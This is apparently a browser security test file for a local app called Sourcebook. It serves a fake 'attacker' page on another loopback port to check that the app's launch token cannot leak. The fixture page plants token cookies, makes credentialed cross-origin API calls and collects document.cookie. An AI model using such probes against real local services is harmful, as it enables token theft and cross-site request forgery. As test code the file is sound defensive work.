/**
 * The loopback token against another program on another loopback port: a local "attacker" HTTP
 * server the same browser visits after using Sourcebook. Cookies are not port-scoped, so a token
 * kept in a cookie would reach it; the token lives only in the page and in a header.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it } from 'vitest';
import { serverAndBrowserPerSuite } from './harness';

interface Seen { url: string; headers: http.IncomingHttpHeaders; body: string }

function startAttacker(target: string) {
  const seen: Seen[] = [];
  let report: (r: unknown) => void;
  const reported = new Promise<unknown>((resolve) => { report = resolve; });
  // Everything a page on another loopback port can try: credentialed calls, the event stream,
  // and planting a cookie of the token's name (cookies for 127.0.0.1 are shared by all ports).
  const page = `<!doctype html><title>Innocent</title><script>
    (async () => {
      const out = {};
      document.cookie = 'sourcebook_token=planted; path=/api';
      document.cookie = 'sourcebook_token=planted2; path=/';
      for (const [name, init] of Object.entries({
        getLibrary: { method: 'POST', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: '[]' },
        listNotes: { method: 'POST', credentials: 'include', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '[]' },
      })) {
        try { const r = await fetch(${JSON.stringify(target)} + '/api/' + name, init); out[name] = r.type === 'opaque' ? 'opaque' : r.status + ':' + (await r.text()); }
        catch (e) { out[name] = 'failed: ' + e.message; }
      }
      try { const r = await fetch(${JSON.stringify(target)} + '/api/events', { credentials: 'include' }); out.events = r.status; }
      catch (e) { out.events = 'failed: ' + e.message; }
      out.cookie = document.cookie;
      await fetch('/report', { method: 'POST', body: JSON.stringify(out) });
    })();
  </script>`;
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (c) => { body += c; });
    req.on('end', () => {
      seen.push({ url: req.url ?? '', headers: req.headers, body });
      if (req.url === '/report') { report(JSON.parse(body)); res.end('thanks'); return; }
      res.writeHead(200, { 'content-type': 'text/html' }).end(page);
    });
  });
  return new Promise<{ origin: string; seen: Seen[]; reported: Promise<unknown>; close(): Promise<void> }>((resolve) => {
    server.listen(0, '127.0.0.1', () => resolve({
      origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
      seen, reported,
      close: () => new Promise((r) => { server.closeAllConnections(); server.close(() => r()); }),
    }));
  });
}

describe('the launch token in the browser', () => {
  const suite = serverAndBrowserPerSuite();

  it('never reaches a program on another loopback port, which cannot call the API, and planting cookies locks nobody out', async () => {
    const token = new URL(suite.server().url).searchParams.get('token')!;
    const origin = new URL(suite.server().url).origin;
    const attacker = await startAttacker(origin);
    try {
      const context = await suite.browser().newContext();
      const app = await context.newPage();
      await app.goto(suite.server().url);
      await app.getByRole('heading', { name: 'Sources (2)' }).waitFor({ timeout: 20_000 });
      expect(app.url()).toBe(`${origin}/`); // the token left the address bar

      const evil = await context.newPage();
      await evil.goto(attacker.origin + '/');
      const report = await attacker.reported as Record<string, unknown>;
      for (const request of attacker.seen) expect(JSON.stringify(request)).not.toContain(token);
      expect(String(report.getLibrary)).toMatch(/^(failed|403)/);
      expect(String(report.getLibrary)).not.toContain('Bedrock');
      expect(report.events).not.toBe(200);
      expect((await context.cookies()).map((c) => c.value)).not.toContain(token);

      // The planted cookies are now sent to our server too; the app still works, in this tab and after a reload.
      await app.goto(`${origin}/`);
      await app.getByRole('heading', { name: 'Sources (2)' }).waitFor({ timeout: 20_000 });
      await app.getByRole('searchbox', { name: 'Search' }).fill('Bedrock');
      await app.locator('mark', { hasText: /bedrock/i }).first().waitFor({ timeout: 10_000 });
      await context.close();
    } finally {
      await attacker.close();
    }
  });

  it('opens a second tab from a link (no token in it) by asking the first tab, and nothing else can', async () => {
    const context = await suite.browser().newContext();
    const first = await context.newPage();
    await first.goto(suite.server().url);
    await first.getByRole('heading', { name: 'Sources (2)' }).waitFor({ timeout: 20_000 });
    const second = await context.newPage();
    await second.goto(`${new URL(suite.server().url).origin}/`);
    await second.getByRole('heading', { name: 'Sources (2)' }).waitFor({ timeout: 20_000 });
    await context.close();
  });

  it('shows the real reason for a wrong or missing key instead of an empty library', async () => {
    const context = await suite.browser().newContext();
    const page = await context.newPage();
    await page.goto(`${new URL(suite.server().url).origin}/?token=not-this-launch`);
    await page.getByText(/wrong key for this Sourcebook server/).first().waitFor({ timeout: 20_000 });
    const fresh = await (await suite.browser().newContext()).newPage();
    await fresh.goto(`${new URL(suite.server().url).origin}/`);
    await fresh.getByText(/no key for the Sourcebook server.*printed/).first().waitFor({ timeout: 20_000 });
    await context.close();
  });
});
